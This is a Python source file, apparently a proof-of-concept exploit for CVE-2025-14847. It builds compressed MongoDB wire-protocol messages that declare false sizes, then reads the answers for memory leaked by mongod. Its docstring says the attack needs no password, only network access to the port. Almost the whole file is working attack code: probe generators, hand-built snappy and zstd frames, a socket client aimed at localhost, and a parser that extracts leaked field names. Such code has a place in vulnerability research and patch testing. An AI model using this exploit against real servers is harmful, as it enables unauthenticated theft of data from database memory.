"""CVE-2025-14847: messages that claim to be bigger than they are, so that mongod answers with what
lies in its memory behind them. Needs no password, only the port."""

import re
import socket
import struct
import zlib
from collections.abc import Iterator

OP_QUERY, OP_COMPRESSED, OP_MSG = 2004, 2012, 2013
NOOP, SNAPPY, ZLIB, ZSTD = 0, 1, 2, 3
COMPRESSORS = range(256)

ELEMENT = b"\x10a\x00\x01\x00\x00\x00"
"""One whole element of a document that does not end: what follows is read as the next one."""

CLAIMS = (64, 200, 500, 1_000, 2_000, 4_000, 8_000, 16_000, 40_000, 100_000, 300_000)
"""Bytes that a document claims to have."""

SURPLUS = (0, 16, 500, 4_000)
"""By how much the whole message claims to be bigger still."""

QUOTED = re.compile(rb"field name '([^']*)'")
OWN = (b"", b"a", b"?")
"""Names that stand in an answer without a leak: our own, and that of an element without an end."""

PATIENCE = 5.0


class Refused(Exception):
    """The server closed the connection instead of answering."""


def probes(compressor: int) -> Iterator[bytes]:
    """Messages of every shape that the attack knows."""
    for kind in (OP_MSG, OP_QUERY):
        for claim in CLAIMS:
            for surplus in SURPLUS:
                yield compressed(body_of(kind, claim), claim + surplus + 32, compressor, kind)


def body_of(kind: int, claim: int) -> bytes:
    document = struct.pack("<i", claim) + ELEMENT
    if kind == OP_MSG:
        return struct.pack("<I", 0) + b"\0" + document
    return struct.pack("<I", 0) + b"admin.$cmd\0" + struct.pack("<ii", 0, -1) + document


def compressed(body: bytes, claim: int, compressor: int, kind: int) -> bytes:
    """`body` as a compressed message that claims to be of `claim` bytes."""
    packed = PACKERS.get(compressor, zlib.compress)(body)
    return message(OP_COMPRESSED, struct.pack("<iiB", kind, claim, compressor) + packed)


def message(opcode: int, payload: bytes) -> bytes:
    return struct.pack("<iiii", 16 + len(payload), 1, 0, opcode) + payload


def ask(port: int, probe: bytes) -> bytes:
    """What the server answers to one message; raises Refused."""
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as line:
        line.sendall(probe)
        try:
            head = _exactly(line, 16)
            size, _, _, opcode = struct.unpack("<iiii", head)
            payload = _exactly(line, size - 16)
        except ConnectionError as error:
            raise Refused from error
    if opcode == OP_COMPRESSED and payload[8] == ZLIB:
        return zlib.decompress(payload[9:])
    return payload


def leaked(answer: bytes) -> bytes:
    """What of an answer came out of the server's memory: names of fields that nobody sent."""
    return b"\n".join(name for name in QUOTED.findall(answer) if name not in OWN)


def snappy(body: bytes) -> bytes:
    """A literal in snappy's framing, whose preamble tells the true size."""
    assert len(body) <= 60
    return bytes([len(body), (len(body) - 1) << 2]) + body


def zstd(body: bytes) -> bytes:
    """One raw block in a frame that does not tell its size."""
    block = (len(body) << 3) | 1
    return b"\x28\xb5\x2f\xfd\x00\x58" + block.to_bytes(3, "little") + body


PACKERS = {NOOP: bytes, SNAPPY: snappy, ZLIB: zlib.compress, ZSTD: zstd}


def _exactly(line: socket.socket, size: int) -> bytes:
    got = b""
    while len(got) < size:
        if not (more := line.recv(size - len(got))):
            raise ConnectionError
        got += more
    return got
